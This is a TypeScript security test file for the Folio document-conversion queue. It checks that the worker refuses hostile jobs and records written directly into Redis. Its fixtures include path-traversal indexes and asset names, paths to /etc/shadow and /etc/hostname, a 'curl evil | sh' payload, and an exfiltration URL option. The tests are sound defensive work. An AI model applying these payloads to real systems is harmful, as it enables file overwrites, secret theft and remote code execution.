/**
 * Issue #21.4: the worker and the submitters trust nothing read from Redis. Whoever can write to
 * Redis writes jobs, records, pages and assets straight into it here (ioredis and BullMQ, as an
 * attacker with the password would), against a real `folio worker`; each test checks that
 * nothing escapes: no folder outside the worker's scratch folder is written or deleted, no job
 * names a cache folder, a model folder or a URL, no asset name leaves the pictures folder or
 * enters a zip as a path. Every one of these passed the hostile data through before the schema
 * (server/queue/schema.ts).
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import IORedis from 'ioredis';
import { Queue, QueueEvents, type Job } from 'bullmq';
import { unzipSync } from 'fflate';
import { repoRoot, corpusRoot } from '../helpers/corpus';
import { startRedis, type RedisHandle } from '../helpers/redisServer';
import { QUEUE_NAME, docKeys } from '../../server/queue/keys';
import { QueueClient } from '../../server/queue/client';
import { QueueRunner } from '../../server/serve/tasks';
import { resultsZip } from '../../server/serve/zip';
import { parseJobData, parseRecord } from '../../server/queue/schema';

const cli = () => join(repoRoot(), 'dist', 'cli.js');
const PDF = () => readFileSync(join(corpusRoot(), 'docling-src-rendered/docx/lorem_ipsum.docx.pdf'));

let redisServer: RedisHandle;
let redis: IORedis;
let queue: Queue;
let events: QueueEvents;
let dir: string;
let worker: ChildProcess;
let workerLog = '';
/** BullMQ does not close connections it is given: kept to close them. */
const conns: IORedis[] = [];

before(async () => {
  redisServer = await startRedis(undefined, { password: 'hostile-test' });
  redis = new IORedis(redisServer.url, { maxRetriesPerRequest: null });
  conns.push(redis.duplicate(), redis.duplicate());
  queue = new Queue(QUEUE_NAME, { connection: conns[0] });
  events = new QueueEvents(QUEUE_NAME, { connection: conns[1] });
  await events.waitUntilReady();
  dir = mkdtempSync(join(tmpdir(), 'folio-queue-hostile-'));
  worker = spawn(process.execPath, [cli(), 'worker', '--redis', redisServer.url, '--threads', '1'], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  worker.stderr!.on('data', (d) => (workerLog += d));
});

after(async () => {
  if (worker && worker.exitCode === null && worker.signalCode === null) process.kill(worker.pid!, 'SIGKILL');
  await events?.close();
  await queue?.close();
  for (const c of conns) c.disconnect();
  redis?.disconnect();
  await redisServer?.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** Waits for a job to end either way (the worker's own events, no sleeps); returns its failure, if any. */
async function finished(job: Job): Promise<Error | undefined> {
  return job.waitUntilFinished(events, 180_000).then(
    () => undefined,
    (e: Error) => e,
  );
}

/** Writes a task as a hostile writer would: record fields as given, the PDF, and its plan job; waits for the plan and any range it queued. */
async function hostileTask(
  fields: Record<string, string>,
): Promise<{ id: string; error: string | null; errorKind: string | null; pages: number }> {
  const id = randomUUID();
  const k = docKeys(id);
  await redis.hset(k.record, {
    name: 'lorem.pdf',
    rangePages: '8',
    deadline: '0',
    created: String(Date.now()),
    ...fields,
  });
  await redis.set(k.pdf, PDF());
  const plan = await queue.add('plan', { kind: 'plan', docId: id }, { jobId: `${id}-plan`, attempts: 1 });
  await finished(plan);
  const range = await queue.getJob(`${id}-r0`);
  if (range) await finished(range);
  return {
    id,
    error: await redis.hget(k.record, 'error'),
    errorKind: await redis.hget(k.record, 'errorKind'),
    pages: await redis.hlen(k.pages),
  };
}

test(
  'a range job whose index climbs out of the scratch folder writes and deletes nothing there',
  { timeout: 240_000 },
  async () => {
    const victim = join(dir, 'victim');
    mkdirSync(victim);
    writeFileSync(join(victim, 'keep.txt'), 'precious');
    const client = new QueueClient(redisServer.url, { log: () => undefined });
    try {
      // A real task (so its record and PDF exist), then a range job for it that no worker queued.
      const id = await client.submit({ name: 'lorem.pdf', pdf: PDF(), options: { ocr: 'never' }, pictures: 'none' });
      const index = '/' + '../'.repeat(40) + victim.slice(1); // join(scratch, `${id}-r${index}`) === victim
      const job = await queue.add(
        'range',
        { kind: 'range', docId: id, index, pages: [1], context: [1, 2] },
        { jobId: `${id}-hostile`, attempts: 1 },
      );
      const failure = await finished(job);
      assert.ok(
        existsSync(join(victim, 'keep.txt')),
        `the victim folder was deleted; worker log:\n${workerLog.slice(-1500)}`,
      );
      assert.deepEqual(readdirSync(victim), ['keep.txt'], 'nothing was written into the victim folder');
      assert.match(failure?.message ?? '', /refused: range job index is not a whole number/);
      // The submitter side refuses to send what a worker would refuse.
      await assert.rejects(
        client.submit({ name: 'a.pdf', pdf: PDF(), options: { cacheDir: victim } }),
        /options\.cacheDir is not sent through the queue/,
      );
    } finally {
      await client.close();
    }
  },
);

test(
  'job options cannot name the cache folder: nothing written or chmod-ed there, the task refused',
  { timeout: 240_000 },
  async () => {
    const victim = join(dir, 'victim-cache');
    mkdirSync(victim, { mode: 0o755 });
    const before = statSync(victim).mode;
    const t = await hostileTask({ options: JSON.stringify({ ocr: 'never', renderImages: true, cacheDir: victim }) });
    assert.deepEqual(readdirSync(victim), [], 'no page image was written into the hostile cache folder');
    assert.equal(statSync(victim).mode, before, 'the folder mode is unchanged');
    assert.match(t.error ?? '', /options\.cacheDir comes from the worker's own configuration/);
    assert.equal(
      t.errorKind,
      'input',
      'the refusal is stored with its kind (docs/errors.md): the service answers from it',
    );
    assert.equal(t.pages, 0);
  },
);

test('job options cannot name the model folder', { timeout: 240_000 }, async () => {
  const victim = join(dir, 'victim-models');
  mkdirSync(victim);
  const t = await hostileTask({ options: JSON.stringify({ engine: 'vlm', ocr: 'never', modelsDir: victim }) });
  assert.match(t.error ?? '', /options\.modelsDir comes from the worker's own configuration/);
  const stored = Object.values(await redis.hgetall(docKeys(t.id).pages)).join('\n');
  assert.ok(!stored.includes(victim), 'no page was converted with the hostile model folder');
  assert.equal(t.pages, 0);
});

test('job options cannot send page images to a URL (remote VLM)', { timeout: 240_000 }, async () => {
  let requests = 0;
  const server: Server = createServer((req, res) => {
    requests++;
    req.resume();
    res.writeHead(500).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  try {
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}/v1`;
    const t = await hostileTask({
      options: JSON.stringify({ engine: 'vlm', ocr: 'never', remoteVlm: { url, model: 'exfiltrate' } }),
    });
    assert.equal(requests, 0, 'the worker posted to the URL a job named');
    assert.match(t.error ?? '', /options\.remoteVlm comes from the worker's own configuration/);
  } finally {
    await new Promise((r) => server.close(r));
  }
});

/** A finished task written straight into Redis: a valid record and page, plus what the test adds. */
async function finishedTask(extra: (id: string) => Promise<void>): Promise<string> {
  const id = randomUUID();
  const k = docKeys(id);
  await redis.hset(k.record, {
    name: 'a.pdf',
    options: '{}',
    rangePages: '8',
    deadline: '0',
    created: String(Date.now()),
    total: '1',
    pageCount: '1',
  });
  const page = {
    page: 1,
    width: 612,
    height: 792,
    doctags: '<text><loc_10><loc_10><loc_400><loc_40>Hello</text>',
    markdown: 'Hello',
    regions: [
      {
        id: 'p1-r0',
        cls: 'text',
        bbox: { x0: 12, y0: 15, x1: 490, y1: 63 },
        grid: [10, 10, 400, 40],
        order: 0,
        mdRange: { start: 0, end: 5 },
      },
    ],
    engine: 'pipeline',
    ocr: false,
    warnings: [],
  };
  await redis.hset(k.pages, '1', JSON.stringify(page));
  await extra(id);
  return id;
}

test('an asset named ../../../home/user/.bashrc never becomes a zip entry or a file', async () => {
  const id = await finishedTask((id) =>
    redis.hset(docKeys(id).assets, '../../../home/user/.bashrc', Buffer.from('curl evil | sh\n')).then(() => undefined),
  );
  const work = { remove: () => undefined } as unknown as ConstructorParameters<typeof QueueRunner>[1];
  const runner = new QueueRunner(redisServer.url, work, { maxPages: 0, timeoutMs: 0, retentionMs: 3_600_000 });
  try {
    const got = await runner.result(id).then(
      (r) =>
        r
          ? Object.keys(
              unzipSync(
                new Uint8Array(
                  resultsZip([
                    {
                      result: r,
                      document: {
                        filename: 'a.pdf',
                        md_content: 'Hello',
                        json_content: null,
                        html_content: null,
                        text_content: null,
                        doctags_content: null,
                      },
                    },
                  ]),
                ),
              ),
            )
          : [],
      (e: Error) => e,
    );
    if (Array.isArray(got))
      assert.ok(!got.some((n) => n.includes('..') || n.startsWith('/')), `zip entries: ${got.join(', ')}`);
    assert.ok(got instanceof Error, 'the result with a hostile asset name is refused');
    assert.match(
      got.message,
      /asset "\.\.\/\.\.\/\.\.\/home\/user\/\.bashrc" is not inside the task's pictures folder/,
    );
  } finally {
    await runner.close();
  }
});

test('a stored page result that links a file outside the task, or carries a local path, is refused', async () => {
  const client = new QueueClient(redisServer.url, { log: () => undefined });
  try {
    // A picture region naming /etc/hostname as its crop: --images embed would read that file.
    const linked = await finishedTask(async (id) => {
      const page = {
        page: 1,
        width: 612,
        height: 792,
        doctags: '<picture><loc_10><loc_10><loc_400><loc_400></picture>',
        markdown: '![x](/etc/hostname)',
        regions: [
          {
            id: 'p1-r0',
            cls: 'picture',
            bbox: { x0: 12, y0: 15, x1: 490, y1: 630 },
            grid: [10, 10, 400, 400],
            order: 0,
            mdRange: { start: 0, end: 19 },
            imagePath: '/etc/hostname',
          },
        ],
        engine: 'pipeline',
        ocr: false,
        warnings: [],
      };
      await redis.hset(docKeys(id).pages, '1', JSON.stringify(page));
    });
    await assert.rejects(client.result(linked), /asset "\/etc\/hostname" is not inside the task's pictures folder/);
    // A page image path on "the worker's machine": exporters would read it.
    const local = await finishedTask(async (id) => {
      const page = JSON.parse((await redis.hget(docKeys(id).pages, '1'))!);
      await redis.hset(
        docKeys(id).pages,
        '1',
        JSON.stringify({ ...page, image: '/etc/shadow', imageWidth: 10, imageHeight: 10 }),
      );
    });
    await assert.rejects(client.result(local), /field "image" is not known/);
    // A page number that is not the page's key.
    const moved = await finishedTask(async (id) => {
      const page = (await redis.hget(docKeys(id).pages, '1'))!;
      await redis.multi().hdel(docKeys(id).pages, '1').hset(docKeys(id).pages, '7', page).exec();
    });
    await assert.rejects(client.result(moved), /page number does not match its key/);
  } finally {
    await client.close();
  }
});

test('the schema: UUID task ids, whole-number ranges, known fields only', () => {
  const id = randomUUID();
  assert.throws(() => parseJobData({ kind: 'plan', docId: '../../x' }), /not a UUID/);
  assert.throws(
    () => parseJobData({ kind: 'range', docId: id, index: 0, pages: [1.5], context: [1, 2] }),
    /not a page number/,
  );
  assert.throws(
    () => parseJobData({ kind: 'range', docId: id, index: 0, pages: [2, 1], context: [1, 2] }),
    /increasing/,
  );
  assert.throws(
    () => parseJobData({ kind: 'range', docId: id, index: 0, pages: [1], context: [2, 3] }),
    /context does not hold its own pages/,
  );
  assert.throws(
    () => parseJobData({ kind: 'range', docId: id, index: 0, pages: [1], context: [1], extra: 1 }),
    /field "extra" is not known/,
  );
  assert.deepEqual(parseJobData({ kind: 'range', docId: id, index: 3, pages: [7, 8], context: [5, 6, 7, 8, 9, 10] }), {
    kind: 'range',
    docId: id,
    index: 3,
    pages: [7, 8],
    context: [5, 6, 7, 8, 9, 10],
  });
  const rec = { name: 'a.pdf', options: '{}', rangePages: '8', deadline: '0', created: '1' };
  assert.throws(() => parseRecord({ ...rec, name: '../../etc/passwd.pdf' }), /not a plain file name/);
  assert.throws(() => parseRecord({ ...rec, rangePages: '-1' }), /rangePages is not a whole number/);
  assert.throws(
    () => parseRecord({ ...rec, options: JSON.stringify({ bogus: 1 }) }),
    /options\.bogus is not a Folio option/,
  ); // the backend's own allow-list
  assert.throws(
    () => parseRecord({ ...rec, options: JSON.stringify({ scale: 100 }) }),
    /options\.scale must be a number from 0\.25 to 8/,
  );
  assert.throws(() => parseRecord({ ...rec, assetsFolder: '..' }), /not a plain file name/);
  assert.throws(() => parseRecord({ ...rec, assetsFolder: 'a\u202eb.assets' }), /not a plain file name/); // a bidi override
  assert.throws(() => parseRecord({ ...rec, shell: 'x' }), /record field "shell" is not known/);
  assert.equal(parseRecord({ ...rec, assetsFolder: 'Tabelle café.assets' })?.assetsFolder, 'Tabelle café.assets');
});
